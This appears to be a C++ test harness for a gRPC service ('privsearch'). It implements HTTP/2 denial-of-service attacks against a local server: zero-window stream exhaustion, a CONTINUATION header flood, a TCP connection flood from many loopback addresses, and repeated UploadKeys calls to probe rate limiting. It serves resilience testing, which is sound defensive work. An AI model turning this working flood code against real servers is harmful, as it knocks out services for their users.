#include "harness/h2_attacks.h"

#include <openssl/ssl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cerrno>
#include <chrono>
#include <map>

#include "harness/h2_wire.h"
#include "protocol/privsearch.pb.h"

namespace privsearch::tools {
namespace {

// Acknowledges SETTINGS and answers PING so the server keeps the connection; everything else
// (HEADERS of answers, RST_STREAM, GOAWAY) is read and dropped.
bool keep_alive(h2::TlsConnection& c, std::string& pending) {
  std::string reply;
  h2::Frame f;
  while (h2::take_frame(pending, f)) {
    if (f.type == h2::kSettings && (f.flags & h2::kAck) == 0) {
      h2::put_frame_header(reply, 0, h2::kSettings, h2::kAck, 0);
    } else if (f.type == h2::kPing && (f.flags & h2::kAck) == 0 && f.payload.size() == 8) {
      h2::put_frame_header(reply, 8, h2::kPing, h2::kAck, 0);
      reply += f.payload;
    }
  }
  return reply.empty() || c.write_all(reply);
}

SSL_CTX* new_context(void*& slot) {
  slot = h2::attacker_tls_context();
  return static_cast<SSL_CTX*>(slot);
}

}  // namespace

void raise_fd_limit() {
  rlimit nofile{};
  if (::getrlimit(RLIMIT_NOFILE, &nofile) == 0 && nofile.rlim_cur < nofile.rlim_max) {
    nofile.rlim_cur = nofile.rlim_max;
    ::setrlimit(RLIMIT_NOFILE, &nofile);
  }
}

// ---- UnreadResponses --------------------------------------------------------------------------

Result<std::unique_ptr<UnreadResponses>> UnreadResponses::start(const UnreadResponsesSpec& spec) {
  std::unique_ptr<UnreadResponses> u(new UnreadResponses());
  u->spec_ = spec;
  if (new_context(u->ctx_) == nullptr) return Status(StatusCode::kInternal, "SSL_CTX_new failed");
  for (std::size_t i = 0; i < spec.connections; ++i)
    u->threads_.emplace_back([p = u.get()] { p->run(); });
  return u;
}

UnreadResponses::~UnreadResponses() {
  stop_ = true;
  for (auto& t : threads_) t.join();
  SSL_CTX_free(static_cast<SSL_CTX*>(ctx_));
}

void UnreadResponses::run() {
  h2::ignore_sigpipe_in_this_thread();
  while (!stop_) {
    auto c = h2::TlsConnection::open(static_cast<SSL_CTX*>(ctx_), spec_.source, spec_.port);
    if (!c.ok()) {
      std::this_thread::sleep_for(std::chrono::milliseconds(50));
      continue;
    }
    // Window 0 for every stream: the server may send headers but not one byte of any answer.
    std::string out = std::string(h2::kPreface) + h2::settings_frame({{0x4, 0}});
    const std::string block = h2::grpc_request_headers(spec_.rpc_path);
    const std::string message = h2::grpc_message(spec_.request);
    for (std::size_t i = 0; i < spec_.streams_per_connection; ++i) {
      const auto id = static_cast<std::uint32_t>(2 * i + 1);
      h2::put_frame_header(out, block.size(), h2::kHeaders, h2::kEndHeaders, id);
      out += block;
      h2::put_frame_header(out, message.size(), h2::kData, h2::kEndStream, id);
      out += message;
    }
    if (!c.write_all(out)) continue;
    opened_ += spec_.streams_per_connection;
    std::string pending;
    while (!stop_) {
      const int n = c.read_some(pending);
      if (n < 0 || (n > 0 && !keep_alive(c, pending))) break;
    }
    if (!stop_) ++dropped_;  // the server gave up on us: open the same streams again
  }
}

// ---- ContinuationFlood ------------------------------------------------------------------------

Result<std::unique_ptr<ContinuationFlood>> ContinuationFlood::start(
    const ContinuationFloodSpec& spec) {
  std::unique_ptr<ContinuationFlood> f(new ContinuationFlood());
  f->spec_ = spec;
  if (new_context(f->ctx_) == nullptr) return Status(StatusCode::kInternal, "SSL_CTX_new failed");
  for (std::size_t i = 0; i < spec.connections; ++i)
    f->threads_.emplace_back([p = f.get()] { p->run(); });
  return f;
}

void ContinuationFlood::wait() {
  for (auto& t : threads_) t.join();
  threads_.clear();
}

ContinuationFlood::~ContinuationFlood() {
  stop_ = true;
  wait();
  SSL_CTX_free(static_cast<SSL_CTX*>(ctx_));
}

void ContinuationFlood::run() {
  h2::ignore_sigpipe_in_this_thread();
  int refused = 0;
  std::uint64_t field = 0;
  const std::string value(3000, 'a');
  while (!stop_ && sent_ < spec_.total_bytes && refused < 20) {
    auto c = h2::TlsConnection::open(static_cast<SSL_CTX*>(ctx_), spec_.source, spec_.port);
    if (!c.ok()) {
      ++refused;
      std::this_thread::sleep_for(std::chrono::milliseconds(50));
      continue;
    }
    refused = 0;
    ++made_;
    const std::string block = h2::grpc_request_headers("/privsearch.v1.Provider/GetServerInfo");
    std::string out = std::string(h2::kPreface) + h2::settings_frame({});
    h2::put_frame_header(out, block.size(), h2::kHeaders, 0 /*no END_HEADERS*/, 1);
    out += block;
    std::uint64_t in_block = 0;
    while (!stop_ && sent_ < spec_.total_bytes && c.write_all(out)) {
      sent_ += out.size();
      in_block += out.size();
      // The next CONTINUATION: five new 3 KB fields (~15 KB, under the 16 KB max frame size).
      std::string fields;
      for (int k = 0; k < 5; ++k)
        h2::put_literal(fields, "x-flood-" + std::to_string(field++), value);
      out.clear();
      h2::put_frame_header(out, fields.size(), h2::kContinuation, 0, 1);
      out += fields;
    }
    std::uint64_t longest = longest_.load();
    while (in_block > longest && !longest_.compare_exchange_weak(longest, in_block)) {
    }
  }
}

// ---- raw unary calls -------------------------------------------------------------------------

Result<std::vector<std::string>> raw_unary_calls(
    std::uint16_t port, const std::string& source, const std::string& path,
    const std::string& request, std::size_t count, int timeout_ms,
    const std::vector<std::pair<std::string, std::string>>& extra_headers) {
  h2::ignore_sigpipe_in_this_thread();
  SSL_CTX* ctx = h2::attacker_tls_context();
  auto c = h2::TlsConnection::open(ctx, source, port);
  if (!c.ok()) {
    SSL_CTX_free(ctx);
    return Status(StatusCode::kUnavailable, "no TLS connection from " + source);
  }
  std::string out = std::string(h2::kPreface) + h2::settings_frame({{0x4, 1u << 20}});
  std::string block = h2::grpc_request_headers(path);
  for (const auto& [name, value] : extra_headers) h2::put_literal(block, name, value);
  const std::string message = h2::grpc_message(request);
  for (std::size_t i = 0; i < count; ++i) {
    const auto id = static_cast<std::uint32_t>(2 * i + 1);
    h2::put_frame_header(out, block.size(), h2::kHeaders, h2::kEndHeaders, id);
    out += block;
    h2::put_frame_header(out, message.size(), h2::kData, h2::kEndStream, id);
    out += message;
  }
  std::map<std::uint32_t, std::string> bodies;
  std::size_t ended = 0;
  std::string pending;
  const auto until = std::chrono::steady_clock::now() + std::chrono::milliseconds(timeout_ms);
  bool open = c.write_all(out);
  while (open && ended < count && std::chrono::steady_clock::now() < until) {
    if (c.read_some(pending) < 0) break;
    h2::Frame f;
    std::string reply;
    while (h2::take_frame(pending, f)) {
      if (f.type == h2::kData) bodies[f.stream] += f.payload;
      if ((f.type == h2::kHeaders && (f.flags & h2::kEndStream) != 0) || f.type == h2::kRstStream) {
        ++ended;
      }
      if (f.type == h2::kSettings && (f.flags & h2::kAck) == 0) {
        h2::put_frame_header(reply, 0, h2::kSettings, h2::kAck, 0);
      }
    }
    open = reply.empty() || c.write_all(reply);
  }
  c.close();
  SSL_CTX_free(ctx);
  std::vector<std::string> messages;
  for (auto& [id, body] : bodies) {
    if (body.size() >= 5) messages.push_back(body.substr(5));
  }
  return messages;
}

Result<std::size_t> rate_limited_uploads(
    std::uint16_t port, const std::string& source, std::size_t calls,
    const std::vector<std::pair<std::string, std::string>>& extra_headers) {
  std::size_t limited = 0;
  for (std::size_t i = 0; i < calls; ++i) {
    PRIVSEARCH_ASSIGN_OR_RETURN(
        const auto answers,
        raw_unary_calls(port, source, "/privsearch.v1.Provider/UploadKeys",
                        v1::UploadKeysRequest().SerializeAsString(), 1, 10000, extra_headers));
    v1::UploadKeysResponse r;
    if (answers.size() != 1 || !r.ParseFromString(answers.front())) {
      return Status(StatusCode::kUnavailable, "no UploadKeys answer for " + source);
    }
    if (r.has_error() && r.error().code() == v1::RATE_LIMITED) ++limited;
  }
  return limited;
}

// ---- ConnectionFlood --------------------------------------------------------------------------

Result<std::unique_ptr<ConnectionFlood>> ConnectionFlood::start(const ConnectionFloodSpec& spec) {
  raise_fd_limit();
  std::unique_ptr<ConnectionFlood> f(new ConnectionFlood());
  auto connect_from = [&](const std::string& source) {
    const int fd = h2::connect_plain(source, spec.port);
    if (fd >= 0) f->fds_.push_back(fd);
  };
  for (std::size_t s = 0; s < spec.sources; ++s) {
    const std::string source = "127.0.0." + std::to_string(10 + s % 240);
    for (std::size_t i = 0; i < spec.connections_per_source; ++i) connect_from(source);
  }
  for (std::size_t i = 0; i < spec.attempts_from_one; ++i) connect_from("127.0.0.9");
  if (f->fds_.empty()) {
    return Status(StatusCode::kUnavailable,
                  "no TCP connection to 127.0.0.1:" + std::to_string(spec.port));
  }
  return f;
}

std::size_t ConnectionFlood::still_open() const {
  std::size_t open = 0;
  for (const int fd : fds_) {
    char b = 0;
    const ssize_t n = ::recv(fd, &b, 1, MSG_DONTWAIT | MSG_PEEK);
    if (n < 0 && (errno == EAGAIN || errno == EWOULDBLOCK)) ++open;
  }
  return open;
}

ConnectionFlood::~ConnectionFlood() { release(); }

void ConnectionFlood::release() {
  for (const int fd : fds_) ::close(fd);
  fds_.clear();
}

}  // namespace privsearch::tools
